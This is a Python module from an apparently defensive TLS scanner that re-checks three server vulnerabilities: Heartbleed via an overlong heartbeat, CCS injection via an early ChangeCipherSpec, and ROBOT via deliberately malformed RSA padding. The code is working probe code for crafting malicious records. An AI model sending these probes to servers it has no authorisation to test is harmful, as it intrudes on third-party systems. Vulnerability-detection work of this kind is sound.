"""Three attacks, tried once more in another way than the handshake engine's: Heartbleed, CCS injection, ROBOT.

They are made of the survey's hellos and of records written here, and share nothing with the engine whose finding they
are to confirm but the server. Each asks for no more than proves it, and tells what it saw in words.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Awaitable, Callable, Sequence
from functools import partial
from typing import Final, TypeVar

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa
from msgspec import Struct
from tlslite.constants import (  # type: ignore[import-untyped]  # it ships no types
    AlertDescription,
    ContentType,
    ExtensionType,
    HandshakeType,
)
from tlslite.messages import ServerHello  # type: ignore[import-untyped]  # it ships no types
from tlslite.utils.codec import Parser  # type: ignore[import-untyped]  # it ships no types

from scanner.evidence import Failure
from scanner.probe.net.connection import TcpStream
from scanner.probe.survey.client import HelloClient
from scanner.probe.survey.flight_reader import RECORD_LIMIT, TOTAL_LIMIT
from scanner.probe.survey.hello import WIRE_VERSIONS, Offer, to_wire

S = TypeVar("S")

_HEARTBEAT: Final = 24
_NO_HEARTBEATS: Final = "the server agrees to no heartbeats"
_HEARTBEAT_EXTENSION: Final = bytes.fromhex("000f000101")
_CLAIMED: Final = 16
"""Bytes that the overlong heartbeat claims, beyond the none that it has."""
_WAIT_S: Final = 1.0
"""How long an early ChangeCipherSpec is left alone with the server, before the record that shows what became of it."""
_PATIENCE: Final = 0.8
"""Of the time that an answer may take, how much passes before silence is called the answer; the rest is the hello's."""
_UNREADABLE: Final = 64
"""Bytes of a record that says nothing."""
_RECORD: Final = 5
_MESSAGE: Final = 4
_SECRET: Final = 48
_SERIES: Final = 2


class _OtherwiseError(Exception):
    """The handshake did not come as far as the attack; the argument says what happened."""


class Second(Struct, frozen=True):
    """What a second probe saw: whether the finding holds, and in words what was observed.

    `tried` is whether the handshake came as far as the attack, without which nothing is shown.
    """

    confirmed: bool
    observed: str
    tried: bool = True


async def heartbleed_and_ccs(client: HelloClient, offer: Offer) -> tuple[Second, Second]:
    """Both attacks on one connection, where the server agrees to no heartbeats; else on one each.

    What is open to Heartbleed is so by the code that agrees to heartbeats (RFC 6520 section 2).
    """
    agreed = Second(confirmed=False, observed=_NO_HEARTBEATS)

    async def talk(stream: TcpStream) -> Second | None:
        reader = _Records(stream)
        await stream.send(_with_heartbeat(to_wire(offer)))
        await reader.until_done()
        return None if reader.heartbeats else await _early_ccs(reader, stream, offer)

    ccs = await _tried(client, talk)
    if ccs is not None and ccs.tried:
        return agreed, ccs
    # It agrees to heartbeats, or does not stand the offer of them.
    return await heartbleed(client, offer), await ccs_injection(client, offer)


async def heartbleed(client: HelloClient, offer: Offer) -> Second:
    """Send a heartbeat that claims sixteen bytes and has none."""

    async def talk(stream: TcpStream) -> Second:
        reader = _Records(stream)
        await stream.send(_with_heartbeat(to_wire(offer)))
        await reader.until_done()
        request = b"\x01" + _CLAIMED.to_bytes(2)
        # To drop an overlong heartbeat in silence is right (RFC 6520 section 4), and a slow server is silent, too. What
        # follows it is no handshake message, which any server refuses: after that, no answer is on its way any more.
        unreadable = _record(offer, ContentType.handshake, os.urandom(_UNREADABLE))
        await stream.send(_record(offer, _HEARTBEAT, request) + unreadable)
        kind, body = await reader.next()
        if kind == _HEARTBEAT and body[:1] == b"\x02" and len(body) >= 3 + _CLAIMED:
            return Second(confirmed=True, observed="an overlong heartbeat was answered")
        return Second(confirmed=False, observed=f"an overlong heartbeat was answered with {_named(kind, body)}")

    return await _tried(client, talk)


async def ccs_injection(client: HelloClient, offer: Offer) -> Second:
    """Send a ChangeCipherSpec before any key, and then a record that only who obeyed would try to decrypt."""

    async def talk(stream: TcpStream) -> Second:
        reader = _Records(stream)
        await stream.send(to_wire(offer))
        await reader.until_done()
        return await _early_ccs(reader, stream, offer)

    return await _tried(client, talk)


async def _early_ccs(reader: _Records, stream: TcpStream, offer: Offer) -> Second:
    """What a server does with a ChangeCipherSpec right after its first flight."""
    await stream.send(_record(offer, ContentType.change_cipher_spec, b"\x01"))
    kind, body = await reader.within(_WAIT_S)
    if kind is not None:
        return Second(confirmed=False, observed=f"an early ChangeCipherSpec was answered with {_named(kind, body)}")
    await stream.send(_record(offer, ContentType.handshake, os.urandom(_UNREADABLE)))
    kind, body = await reader.next()
    obeyed = kind == ContentType.alert and body[1:2] in {b"\x14", b"\x15"}  # bad_record_mac, decryption_failed
    word = "was obeyed" if obeyed else f"and a record after it were answered with {_named(kind, body)}"
    return Second(confirmed=obeyed, observed=f"an early ChangeCipherSpec {word}")


async def robot(client: HelloClient, offer: Offer) -> Second:
    """Send three RSA ciphertexts, one of them right, each twice: an oracle answers each alike, and them differently."""
    answers: dict[str, set[str]] = {}
    wait_s = client.timeout_s * _PATIENCE
    for _ in range(_SERIES):
        for name in ("right padding", "no padding", "no end of the padding"):
            second = await _tried(client, partial(_padded, offer=offer, padding=name, wait_s=wait_s))
            answers.setdefault(name, set()).add(second.observed)
    told = "; ".join(f"{name}: {' or '.join(sorted(seen))}" for name, seen in answers.items())
    steady = all(len(seen) == 1 for seen in answers.values())
    different = len({next(iter(seen)) for seen in answers.values()}) > 1
    return Second(confirmed=steady and different, observed=told)


async def _padded(stream: TcpStream, offer: Offer, padding: str, wait_s: float) -> Second:
    reader = _Records(stream)
    await stream.send(to_wire(offer))
    key = _rsa_key(await reader.until_done())
    size = (key.n.bit_length() + 7) // 8
    secret = bytes(WIRE_VERSIONS[offer.highest]) + bytes(range(1, _SECRET - 1))
    filling = bytes(1 + index % 255 for index in range(size - _SECRET - 3))
    block = {
        "right padding": b"\x00\x02" + filling + b"\x00" + secret,
        "no padding": b"\x41\x17" + filling + b"\x00" + secret,
        "no end of the padding": b"\x00\x02" + filling + b"\x11" + secret,
    }[padding]
    encrypted = pow(int.from_bytes(block) % key.n, key.e, key.n).to_bytes(size)
    body = len(encrypted).to_bytes(2) + encrypted
    exchange = bytes([HandshakeType.client_key_exchange]) + len(body).to_bytes(3) + body
    await stream.send(
        _record(offer, ContentType.handshake, exchange)
        + _record(offer, ContentType.change_cipher_spec, b"\x01")
        + _record(offer, ContentType.handshake, bytes(_UNREADABLE))
    )
    return Second(confirmed=False, observed=_named(*await reader.within(wait_s)))


async def _tried(client: HelloClient, talk: Callable[[TcpStream], Awaitable[S]]) -> S | Second:
    try:
        outcome = await client.converse(talk)
    except _OtherwiseError as error:
        return Second(confirmed=False, observed=str(error), tried=False)
    if not isinstance(outcome, Failure):
        return outcome
    detail = f" ({outcome.detail})" if outcome.detail else ""
    return Second(confirmed=False, observed=f"{outcome.reason}{detail}", tried=False)


def _rsa_key(chain: Sequence[bytes]) -> rsa.RSAPublicNumbers:
    try:
        key = x509.load_der_x509_certificate(chain[0]).public_key()
    except Exception as error:
        raise _OtherwiseError("the certificate cannot be read") from error
    if not isinstance(key, rsa.RSAPublicKey):
        raise _OtherwiseError("the certificate has no RSA key")
    return key.public_numbers()


class _Records:
    """Reads records, and of a first flight the certificates, and whether it agrees to heartbeats (`heartbeats`)."""

    def __init__(self, stream: TcpStream) -> None:
        self.heartbeats = False
        self._stream = stream
        self._bytes = bytearray()
        self._total = 0

    async def until_done(self) -> tuple[bytes, ...]:
        """Read the server's first flight to its end, and return its certificates.

        Raises:
            _OtherwiseError: it does not come to that.
        """
        messages = bytearray()
        chain: list[bytes] = []
        while True:
            kind, body = await self.next()
            if kind != ContentType.handshake:
                raise _OtherwiseError(f"the hello was answered with {_named(kind, body)}")
            messages += body
            while len(messages) >= _MESSAGE and len(messages) >= _MESSAGE + int.from_bytes(messages[1:4]):
                end = _MESSAGE + int.from_bytes(messages[1:4])
                message, messages = bytes(messages[:end]), messages[end:]
                if message[0] == HandshakeType.server_hello_done:
                    return tuple(chain)
                if message[0] == HandshakeType.server_hello:
                    self.heartbeats = _agrees_to_heartbeats(message[_MESSAGE:])
                if message[0] == HandshakeType.certificate:
                    first = 7 + int.from_bytes(message[7:10]) + 3
                    chain = [message[10:first]]

    async def within(self, seconds: float) -> tuple[int | None, bytes]:
        """The next record, as `next` returns it; None for silence."""
        try:
            async with asyncio.timeout(seconds):
                return await self.next()
        except TimeoutError:
            return None, b""

    async def next(self) -> tuple[int, bytes]:
        """The next record: its kind and content. -1 for the end of the connection, -2 for a reset."""
        while True:
            if len(self._bytes) >= _RECORD:
                end = _RECORD + int.from_bytes(self._bytes[3:_RECORD])
                if end > _RECORD + RECORD_LIMIT:
                    raise _OtherwiseError("a record longer than there are")
                if len(self._bytes) >= end:
                    record = bytes(self._bytes[:end])
                    del self._bytes[:end]
                    return record[0], record[_RECORD:]
            try:
                data = await self._stream.receive()
            except OSError:
                return -2, b""
            self._total += len(data)
            if not data:
                return -1, b""
            if self._total > TOTAL_LIMIT:
                raise _OtherwiseError("more bytes than a handshake has")
            self._bytes += data


def _agrees_to_heartbeats(hello: bytes) -> bool:
    """Whether a ServerHello has the extension; one that cannot be read is taken to have it."""
    try:
        read = ServerHello().parse(Parser(bytearray((len(hello)).to_bytes(3) + hello)))
    except (SyntaxError, ValueError, IndexError):
        return True
    return read.getExtension(ExtensionType.heartbeat) is not None


def _named(kind: int | None, body: bytes) -> str:
    ends = {None: "silence", -1: "the end of the connection", -2: "a reset"}
    if kind in ends:
        return ends[kind]
    if kind == ContentType.alert and len(body) > 1:
        return f"the alert {AlertDescription.toRepr(body[1]) or body[1]}"
    return f"a record of type {kind}"


def _record(offer: Offer, kind: int, body: bytes) -> bytes:
    return bytes([kind, *WIRE_VERSIONS[offer.highest]]) + len(body).to_bytes(2) + body


def _with_heartbeat(hello: bytes) -> bytes:
    """The same hello with the extension that allows heartbeats (RFC 6520 section 2)."""
    at = _RECORD + _MESSAGE + 2 + 32
    at += 1 + hello[at]  # the session id
    at += 2 + int.from_bytes(hello[at : at + 2])  # the suites
    at += 1 + hello[at]  # the compression methods
    extensions = hello[at + 2 :] + _HEARTBEAT_EXTENSION
    body = hello[_RECORD + _MESSAGE : at] + len(extensions).to_bytes(2) + extensions
    message = hello[_RECORD : _RECORD + 1] + len(body).to_bytes(3) + body
    return hello[: _RECORD - 2] + len(message).to_bytes(2) + message
